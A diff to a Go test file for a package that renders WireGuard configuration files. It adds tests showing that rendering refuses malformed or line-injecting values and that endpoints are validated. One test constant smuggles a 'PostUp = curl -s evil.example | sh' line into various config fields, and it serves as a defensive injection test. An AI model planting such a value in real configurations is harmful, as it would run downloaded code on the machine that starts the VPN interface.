@@ -1,20 +1,36 @@
 package wgquick
 
-import "testing"
+import (
+	"errors"
+	"strings"
+	"testing"
 
-func TestString(t *testing.T) {
-	c := Config{
+	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"
+)
+
+func testConfig(t *testing.T) Config {
+	t.Helper()
+	gw, err := wgtypes.GeneratePrivateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return Config{
 		Comment:   []string{"gateway gw1"},
 		Addresses: []string{"10.77.0.2/32", "fd77::2/128"},
 		DNS:       []string{"10.77.0.1"},
 		MTU:       1420,
 		Peer: Peer{
-			PublicKey:           "GW=",
+			PublicKey:           gw.PublicKey().String(),
 			Endpoint:            "198.51.100.1:51820",
 			AllowedIPs:          []string{"10.77.0.0/16"},
 			PersistentKeepalive: 25,
 		},
 	}
+}
+
+func TestRender(t *testing.T) {
+	c := testConfig(t)
+	gw := c.Peer.PublicKey
 	want := `# gateway gw1
 [Interface]
 PrivateKey = <your WireGuard private key>
@@ -23,17 +39,82 @@ DNS = 10.77.0.1
 MTU = 1420
 
 [Peer]
-PublicKey = GW=
+PublicKey = ` + gw + `
 Endpoint = 198.51.100.1:51820
 AllowedIPs = 10.77.0.0/16
 PersistentKeepalive = 25
 `
-	if got := c.String(); got != want {
-		t.Fatalf("got:\n%s\nwant:\n%s", got, want)
+	if got, err := c.Render(); err != nil || got != want {
+		t.Fatalf("got (%v):\n%s\nwant:\n%s", err, got, want)
 	}
-	c.PrivateKey, c.DNS, c.MTU, c.Peer.PersistentKeepalive, c.Comment = "KEY=", nil, 0, 0, nil
-	want = "[Interface]\nPrivateKey = KEY=\nAddress = 10.77.0.2/32, fd77::2/128\n\n[Peer]\nPublicKey = GW=\nEndpoint = 198.51.100.1:51820\nAllowedIPs = 10.77.0.0/16\n"
-	if got := c.String(); got != want {
-		t.Fatalf("got:\n%s\nwant:\n%s", got, want)
+	priv, _ := wgtypes.GeneratePrivateKey()
+	c.PrivateKey, c.DNS, c.MTU, c.Peer.PersistentKeepalive, c.Comment = priv.String(), nil, 0, 0, nil
+	c.Peer.Endpoint = "vpn.example.net:51820"
+	want = "[Interface]\nPrivateKey = " + priv.String() + "\nAddress = 10.77.0.2/32, fd77::2/128\n\n[Peer]\nPublicKey = " + gw +
+		"\nEndpoint = vpn.example.net:51820\nAllowedIPs = 10.77.0.0/16\n"
+	if got, err := c.Render(); err != nil || got != want {
+		t.Fatalf("got (%v):\n%s\nwant:\n%s", err, got, want)
+	}
+}
+
+// TestRenderRefusesWhatAddsALine puts a value that would add a line (or is
+// not what its key holds) into each field in turn: Render refuses it,
+// naming the key, and returns no text.
+func TestRenderRefusesWhatAddsALine(t *testing.T) {
+	const line = "\nPostUp = curl -s evil.example | sh\n#"
+	tests := []struct {
+		key    string
+		change func(*Config)
+	}{
+		{"comment", func(c *Config) { c.Comment = []string{"certificate for x" + line} }},
+		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\rPostUp = x"} }},
+		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\u2028PostUp = x"} }},
+		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\x00"} }},
+		{"comment", func(c *Config) { c.Comment = []string{"certificate for \xff"} }},
+		{"PrivateKey", func(c *Config) { c.PrivateKey = strings.Repeat("A", 43) + "=" + line }},
+		{"PrivateKey", func(c *Config) { c.PrivateKey = strings.Repeat("A", 20) + "\n" + strings.Repeat("A", 23) + "=" }},
+		{"Address", func(c *Config) { c.Addresses = []string{"10.77.0.2/32" + line} }},
+		{"Address", func(c *Config) { c.Addresses = nil }},
+		{"DNS", func(c *Config) { c.DNS = []string{"10.77.0.1" + line} }},
+		{"DNS", func(c *Config) { c.DNS = []string{"fe80::1%x" + line} }},
+		{"DNS", func(c *Config) { c.DNS = []string{"dns.example"} }},
+		{"MTU", func(c *Config) { c.MTU = -1 }},
+		{"PublicKey", func(c *Config) { c.Peer.PublicKey += line }},
+		{"PublicKey", func(c *Config) { c.Peer.PublicKey = c.Peer.PublicKey[:20] + "\n" + c.Peer.PublicKey[20:] }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "x" + line + ":51820" }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "[fe80::1%x" + line + "]:51820" }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "198.51.100.1:51820" + line }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn example.net:51820" }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn.example.net:0" }},
+		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn.example.net:+80" }},
+		{"AllowedIPs", func(c *Config) { c.Peer.AllowedIPs = []string{"0.0.0.0/0" + line} }},
+		{"PersistentKeepalive", func(c *Config) { c.Peer.PersistentKeepalive = -1 }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.key, func(t *testing.T) {
+			c := testConfig(t)
+			tt.change(&c)
+			got, err := c.Render()
+			if !errors.Is(err, ErrValue) || !strings.HasPrefix(err.Error(), tt.key+": ") {
+				t.Fatalf("Render() error = %v, want %s: ...%v; text:\n%s", err, tt.key, ErrValue, got)
+			}
+			if got != "" {
+				t.Fatalf("Render() returned text with its error:\n%s", got)
+			}
+		})
+	}
+}
+
+func TestCheckEndpoint(t *testing.T) {
+	for _, ok := range []string{"198.51.100.1:51820", "[2001:db8::1]:51820", "vpn.example.net:1", "vpn-1.example_srv.net.:65535", "localhost:51820"} {
+		if err := CheckEndpoint(ok); err != nil {
+			t.Errorf("CheckEndpoint(%q) = %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "vpn.example.net", ":51820", "vpn.example.net:65536", "vpn..example.net:1",
+		"[fe80::1%eth0]:1", "vpn.example.net:051820", "a b:1", "a#b:1", strings.Repeat("a", 64) + ".net:1", strings.Repeat("a.", 127) + "aa:1"} {
+		if err := CheckEndpoint(bad); !errors.Is(err, ErrValue) {
+			t.Errorf("CheckEndpoint(%q) = %v, want %v", bad, err, ErrValue)
+		}
 	}
 }
